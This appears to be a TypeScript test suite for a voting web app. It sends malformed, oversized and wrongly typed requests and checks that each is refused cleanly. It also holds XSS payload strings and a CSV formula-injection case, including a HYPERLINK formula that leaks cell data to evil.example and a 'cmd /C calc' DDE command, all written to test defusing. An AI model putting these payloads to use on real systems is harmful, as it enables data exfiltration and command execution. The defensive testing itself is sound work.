					['delegates', w.approval.delegates[2]!.username],
					['ballots', '1'],
					['issued', '1'],
					['scrutineer', String(w.approval.delegates[0]!.id)]
				]
			},
			expect: [400],
			says: '不是监票人'
		},
		{
			name: 'paper ballots for an unknown delegate',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: {
				body: [
					['delegates', 'nobody_at_all'],
					['ballots', '1'],
					['issued', '1'],
					['scrutineer', String(w.scrutineerId)]
				]
			},
			expect: [400],
			says: '不在本次票决的代表名单中'
		},
		{
			name: 'a negative number of paper ballots issued',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: {
				body: [
					['delegates', w.approval.delegates[2]!.username],
					['ballots', '1'],
					['issued', '-3'],
					['scrutineer', String(w.scrutineerId)]
				]
			},
			expect: [400],
			says: '请填写本批发出的纸质选票数'
		}
	);

	// ---------------------------------------------------------------- wrong types
	add(
		{
			name: 'JSON sent to a form action',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: { body: '{"confirm":"yes"}', contentType: 'application/json' },
			expect: [415]
		},
		{
			name: 'XML sent to a form action',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: `<candidate>${c1}</candidate>`, contentType: 'application/xml' },
			expect: [415]
		},
		{
			name: 'a text/plain form (not readable as a form)',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: { body: 'confirm=yes', contentType: 'text/plain' },
			expect: [400]
		},
		{
			name: 'a text/plain sign-in',
			as: 'anonymous',
			path: '/login',
			request: { body: 'username=a&password=b', contentType: 'text/plain' },
			expect: [400]
		},
		{
			name: 'a PHP-style array for a confirmation',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: { body: [['confirm[]', 'yes']] },
			expect: [400],
			says: '请先勾选确认框'
		},
		{
			name: 'two values for a confirmation',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: {
				body: [
					['confirm', 'yes'],
					['confirm', 'no']
				]
			},
			expect: [400],
			says: '请先勾选确认框'
		},
		{
			name: 'two scopes for issuing codes',
			as: 'staff',
			path: `/admin/sessions/${open}/credentials?/issue`,
			request: {
				body: [
					['scope', 'all'],
					['scope', 'one']
				]
			},
			expect: [400]
		},
		{
			name: 'an array of delegate ids to disable',
			as: 'staff',
			path: '/admin/delegates?/disable',
			request: {
				body: [
					['delegateId[]', String(w.approval.delegates[0]!.id)],
					['delegateId[]', String(w.approval.delegates[1]!.id)]
				]
			},
			expect: [400]
		},
		{
			name: 'a file where a title is expected',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: { body: upload('name', 'Category from a file') },
			expect: [400]
		},
		{
			name: 'a file where a confirmation is expected',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: { body: upload('confirm', 'yes') },
			expect: [400]
		},
		{
			name: 'a text where the roster file is expected',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: { roster: 'name,delegation,delegate number\r\nA,B,C1\r\n' } },
			expect: [400]
		},
		{
			name: 'a text where the catalog file is expected',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: { file: 'category,title\r\nA,B\r\n' } },
			expect: [400]
		},
		{
			name: 'a presence that is neither yes nor no',
			as: 'staff',
			path: `/admin/sessions/${open}/electorate?/presence`,
			request: { body: { delegateId: String(w.approval.delegates[0]!.id), present: 'true' } },
			expect: [400]
		},
		{
			name: 'a year written in words',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ year: 'twenty twenty-two' }, [c1, c2]) },
			expect: [400],
			says: '请填写 2000 到 2100 之间的年度'
		},
		{
			name: 'an unknown ballot method',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ ballotMethod: 'ranked' }, [c1, c2]) },
			expect: [400]
		},
		{
			name: 'seats as a float',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: sessionForm({ seats: '1.5' }, [c1, c2, c3]) },
			expect: [400]
		},
		{
			name: 'a budget with letters',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: validCategory, title: 'Valid', budgetYuan: '1e9' } },
			expect: [400]
		},
		{
			name: 'an impossible date',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { categoryId: validCategory, title: 'Valid', expectedCompletion: '2022-02-30' } },
			expect: [400]
		},
		{
			name: 'an unknown move direction',
			as: 'staff',
			path: '/admin/candidates?/moveCandidate',
			request: { body: { id: String(w.candidateId), direction: 'sideways' } },
			expect: [400]
		}
	);

	// ---------------------------------------------------------------- huge bodies
	add(
		{
			name: 'a 3 MB form',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: { title: OVER_LIMIT } },
			expect: [413]
		},
		{
			name: 'a 3 MB form without a length (chunked)',
			as: 'staff',
			path: '/admin/candidates/categories/new',
			request: { body: new Blob([`name=${OVER_LIMIT}`]).stream(), contentType: urlencoded },
			expect: [413]
		},
		{
			name: 'a 3 MB catalog upload',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: upload('file', `category,title\r\n${'a,b\r\n'.repeat(600_000)}`) },
			expect: [413]
		},
		{
			name: 'a 3 MB roster upload',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', OVER_LIMIT) },
			expect: [413]
		},
		{
			name: 'a roster over its own limit (300 KB)',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: upload('roster', `name,delegation,delegate number\r\n${'A,B,C1\r\n'.repeat(40_000)}`) },
			expect: [400]
		},
		{
			name: 'a 3 MB ballot',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: { body: `candidate=${OVER_LIMIT}`, contentType: urlencoded },
			expect: [413]
		},
		{
			name: 'a 3 MB sign-in',
			as: 'anonymous',
			path: '/login',
			request: { body: { username: 'a', password: OVER_LIMIT } },
			expect: [413]
		}
	);

	// ---------------------------------------------------------------- missing fields
	add(
		{
			name: 'a session form with only a title',
			as: 'staff',
			path: '/admin/sessions/new',
			request: { body: { title: 'Only a title' } },
			expect: [400]
		},
		{
			name: 'a candidate form without anything',
			as: 'staff',
			path: '/admin/candidates/new',
			request: { body: {} },
			expect: [400],
			says: '请填写项目名称'
		},
		{
			name: 'a paper batch without ballots',
			as: 'staff',
			path: `/admin/sessions/${open}/paper`,
			request: {
				body: [
					['delegates', w.approval.delegates[2]!.username],
					['scrutineer', String(w.scrutineerId)]
				]
			},
			expect: [400]
		},
		{
			name: 'a presence without the flag',
			as: 'staff',
			path: `/admin/sessions/${open}/electorate?/presence`,
			request: { body: { delegateId: String(w.approval.delegates[0]!.id) } },
			expect: [400]
		},
		{
			name: 'codes for all without confirming',
			as: 'staff',
			path: `/admin/sessions/${open}/credentials?/issue`,
			request: { body: { scope: 'all' } },
			expect: [400]
		},
		{
			name: 'enrolling by delegation without one',
			as: 'staff',
			path: `/admin/sessions/${w.draft.id}/electorate?/enrol`,
			request: { body: { scope: 'delegations' } },
			expect: [400]
		},
		{
			name: 'deleting a candidate without confirming',
			as: 'staff',
			path: `/admin/candidates/${w.candidateId}?/delete`,
			request: { body: {} },
			expect: [400],
			says: '请先勾选确认框'
		},
		{
			name: 'a sign-in without a password',
			as: 'anonymous',
			path: '/login',
			request: { body: { username: 'someone' } },
			expect: [400],
			says: '请输入密码'
		},
		{
			name: 'a new password without its confirmation',
			as: 'anonymous',
			path: '/login/code?/password',
			request: { body: { code: 'AAAA-BBBB-CCCC-DDDD-EEEE', password: 'a long enough password' } },
			expect: [400, 429]
		},
		{
			name: 'a receipt check without a code',
			as: 'anonymous',
			path: `/results/${w.closed.id}/receipts`,
			request: { body: {} },
			expect: [400]
		},
		{
			name: 'a multipart upload without the file',
			as: 'staff',
			path: '/admin/candidates/import',
			request: { body: '--b0undary--\r\n', contentType: 'multipart/form-data; boundary=b0undary' },
			expect: [400]
		}
	);

	// ---------------------------------------------------------------- wrong methods
	for (const [as, path] of [
		['anonymous', '/'],
		['delegate', `/vote/${open}`],
		['staff', `/admin/sessions/${open}`],
		['staff', '/admin/candidates/import'],
		['anonymous', '/api/sessions'],
		['anonymous', `/api/sessions/${open}`],
		['anonymous', `/api/sessions/${w.closed.id}/receipts`],
		['anonymous', '/healthz'],
		['anonymous', '/projects/export.csv']
	] as [Actor, string][]) {
		for (const method of ['PUT', 'DELETE', 'PATCH'])
			add({
				name: `${method} ${path}`,
				as,
				path,
				request: { method, body: 'confirm=yes', contentType: urlencoded },
				expect: [405]
			});
	}
	add(
		{
			name: 'POST to a JSON API',
			as: 'anonymous',
			path: '/api/sessions',
			request: { body: '{"title":"x"}', contentType: 'application/json' },
			expect: [405]
		},
		{
			name: 'POST to a page without actions',
			as: 'anonymous',
			path: '/projects',
			request: { body: { title: 'x' } },
			expect: [405]
		},
		{
			name: 'POST to an action that does not exist',
			as: 'staff',
			path: `/admin/sessions/${open}?/delete`,
			request: { body: { confirm: 'yes' } },
			expect: [404]
		},
		{
			name: 'POST to a named-action page without a name',
			as: 'delegate',
			path: `/vote/${open}`,
			request: { body: [['candidate', c1]] },
			expect: [404]
		}
	);

	// ---------------------------------------------------------------- malformed multipart bodies
	const truncated =
		'--b0undary\r\nContent-Disposition: form-data; name="roster"; filename="r.csv"\r\nContent-Type: text/csv\r\n\r\nname,delegation';
	add(
		{
			name: 'multipart without a boundary',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: 'name=x', contentType: 'multipart/form-data' },
			expect: [400]
		},
		{
			name: 'multipart cut off before its end',
			as: 'staff',
			path: '/admin/delegates?/import',
			request: { body: truncated, contentType: 'multipart/form-data; boundary=b0undary' },
			expect: [400]
		},
		{
			name: 'multipart with another boundary than announced',
			as: 'staff',
			path: '/admin/candidates/import',
			request: {
				body: truncated.replace('b0undary', 'other') + '\r\n--other--\r\n',
				contentType: 'multipart/form-data; boundary=b0undary'
			},
			expect: [400]
		},
		{
			name: 'multipart with a broken part header',
			as: 'staff',
			path: `/admin/sessions/${open}?/close`,
			request: {
				body: '--b0undary\r\nContent-Disposition\r\n\r\nyes\r\n--b0undary--\r\n',
				contentType: 'multipart/form-data; boundary=b0undary'
			},
			expect: [400]
		},
		{
			name: 'multipart garbage as a ballot',
			as: 'delegate',
			path: `/vote/${open}?/cast`,
			request: {
				body: bytes([0x2d, 0x2d, 0x00, 0xff, 0x0d, 0x0a]),
				contentType: 'multipart/form-data; boundary=\u00ff'
			},
			expect: [400]
		},
		{
			name: 'multipart garbage as a sign-in',
			as: 'anonymous',
			path: '/login',
			request: { body: truncated, contentType: 'multipart/form-data; boundary=b0undary' },
			expect: [400]
		}
	);
	return cases;
}

const database = useTestDatabase();
let app: RunningApp;
let world: World;
const agents = {} as Record<Actor, HttpAgent>;
const TABLES_A_REFUSAL_MAY_TOUCH = ['rate_limit_bucket']; // failed sign-ins and code checks are counted by the rate limiter: that is their job

beforeAll(async () => {
	app = await startApp(database.url);
	const sql = database.sql;
	const staff = await createUser(sql, ['staff'], 'staff');
	const scrutineer = await createUser(sql, ['scrutineer'], 'scrutineer');
	const approval = await createVotingSession(sql, { candidates: 5, seats: 2, delegates: 3 });
	const faa = await createVotingSession(sql, { candidates: 4, seats: 2, delegates: 2, method: 'for_against_abstain' });
	const draft = await createVotingSession(sql, { candidates: 4, seats: 2, delegates: 2, open: false });
	const closed = await createVotingSession(sql, { candidates: 4, seats: 2, delegates: 2 });
	await castBallot(sql, {
		votingSessionId: closed.id,
		delegateId: closed.delegates[0]!.id,
		selection: { method: 'approval', candidateIds: [closed.candidateIds[0]!] }
	});
	expect((await applyLifecycle(sql, closed.id, 'close', staff.id)).ok).toBe(true);
	const [candidate] = await sql<
		{ categoryId: number }[]
	>`select category_id as "categoryId" from candidate where id = ${approval.candidateIds[0]!}`;
	world = {
		approval,
		faa,
		draft,
		closed,
		categoryId: candidate!.categoryId,
		candidateId: approval.candidateIds[0]!,
		scrutineerId: scrutineer.id
	};
	agents.anonymous = new HttpAgent(app.baseUrl);
	agents.staff = await signedInAgent(app.baseUrl, staff.username);
	agents.delegate = await signedInAgent(app.baseUrl, approval.delegates[0]!.username);
	agents.faaDelegate = await signedInAgent(app.baseUrl, faa.delegates[0]!.username);
});

afterAll(async () => {
	await app?.stop();
});

function withoutRateLimits(snapshot: DatabaseSnapshot) {
	return {
		counts: Object.fromEntries(
			Object.entries(snapshot.counts).filter(([table]) => !TABLES_A_REFUSAL_MAY_TOUCH.includes(table))
		),
		digests: snapshot.digests
	};
}

describe('hostile inputs', () => {
	it('are at least 60, and each is refused with a clear 4xx, no 500, no internals and no unescaped HTML; the database is unchanged', async () => {
		const cases = corpus(world);
		expect(cases.length).toBeGreaterThanOrEqual(60);
		expect(new Set(cases.map((entry) => entry.name)).size).toBe(cases.length);
		const before = await databaseSnapshot(database.sql);
		const wrong: string[] = [];
		for (const entry of cases) {
			const response = await agents[entry.as].request(entry.path, entry.request ?? {});
			const body = await response.text();
			const problems = [
				entry.expect.includes(response.status)
					? null
					: `status ${response.status}, expected ${entry.expect.join(' or ')}`,
				leakIn(body),
				UNESCAPED_HTML.exec(body)?.[0] ? `unescaped HTML: ${UNESCAPED_HTML.exec(body)?.[0]}` : null,
				entry.says && !body.includes(entry.says) ? `no message "${entry.says}"` : null,
				entry.location !== undefined && response.headers.get('location') !== entry.location
					? `location ${response.headers.get('location')}`
					: null
			].filter((problem) => problem !== null);
			if (problems.length > 0)
				wrong.push(
					`${entry.name} (${entry.as} ${entry.request?.method ?? (entry.request?.body === undefined ? 'GET' : 'POST')} ${entry.path.slice(0, 120)}): ${problems.join('; ')}`
				);
		}
		expect(wrong).toEqual([]);
		expect(withoutRateLimits(await databaseSnapshot(database.sql))).toEqual(withoutRateLimits(before));
		// The server's own log shows no failure of its own either (4xx refusals are logged as such).
		expect(app.log()).not.toMatch(/PostgresError|TypeError|\[5\d\d\]/);
	}, 240_000); // some 70 requests one after another: a minute on a loaded 2-core machine

	it('echo what was typed back into the form, escaped', async () => {
		const response = await agents.staff.post('/admin/candidates/new', { categoryId: '', title: SCRIPT, summary: IMG });
		expect(response.status).toBe(400);
		const html = await response.text();
		expect(html).toContain('value="&lt;script>alert(&quot;piaojue-xss&quot;)&lt;/script>"');
		expect(html).toContain('&lt;img src=x onerror=alert("piaojue-xss")>');
		expect(html).not.toContain(SCRIPT);
		const search = await (await agents.staff.get(`/admin/delegates?q=${encodeURIComponent(SVG)}`)).text();
		expect(search).toContain('value="&quot;>&lt;svg onload=alert(&quot;piaojue-xss&quot;)>"');
		// Invalid UTF-8 arrives as replacement characters, never as broken text.
		const replaced = await agents.staff.request('/admin/candidates/new', {
			body: bytes('categoryId=&title=', [0xff], 'ok'),
			contentType: urlencoded
		});
		expect(await replaced.text()).toContain('value="\uFFFDok"');
	});

	it('a search for SQL finds nothing and breaks nothing', async () => {
		for (const injection of SQL) {
			const html = await (await agents.staff.get(`/admin/delegates?q=${encodeURIComponent(injection)}`)).text();
			expect(html, injection).not.toContain(world.approval.delegates[0]!.username);
		}
		const everyone = await (await agents.staff.get('/admin/delegates?q=%00')).text();
		expect(everyone).toContain(world.approval.delegates[0]!.username);
	});
});

describe('a CSV with spreadsheet formulas', () => {
	it('is imported as text (a counted, legitimate write) and exported defused, so a spreadsheet shows it instead of running it', async () => {
		const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
		const before = await databaseSnapshot(database.sql);
		const response = await agents.staff.post(
			'/admin/candidates/import',
			upload(
				'file',
				`category,title,summary\r\n@SUM(1+1),${JSON.stringify(formula).replace(/\\"/g, '""')},+cmd|' /C calc'!A0\r\n`
			)
		);
		expect(response.status).toBe(200);
		const after = await databaseSnapshot(database.sql);
		const changed = Object.fromEntries(
			Object.keys(after.counts)
				.filter((table) => after.counts[table] !== before.counts[table])
				.map((table) => [table, (after.counts[table] ?? 0) - (before.counts[table] ?? 0)])
		);
		expect(changed).toEqual({ audit_entry: 1, candidate: 1, category: 1 });
		for (const table of [
			'ballot',
			'ballot_choice',
			'ballot_mark',
			'voting_session',
			'voting_result',
			'electorate_member',
			'app_user',
			'access_code',
			'paper_batch'
		]) {
			expect(after.digests[table], table).toBe(before.digests[table]);
		}
		const [stored] = await database.sql<{ title: string; summary: string; category: string }[]>`
			select c.title, c.summary, g.name as category from candidate c join category g on g.id = c.category_id where c.title = ${formula}`;
		expect(stored).toEqual({ title: formula, summary: "+cmd|' /C calc'!A0", category: '@SUM(1+1)' });
		const csv = await (await agents.anonymous.get('/projects/export.csv')).text();
		expect(csv).toContain(`'@SUM(1+1)`);
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击"")"`);
		expect(csv).toContain(`'+cmd|' /C calc'!A0`);
		expect(csv).not.toMatch(/(^|,)[=+@]/m);
	});
});
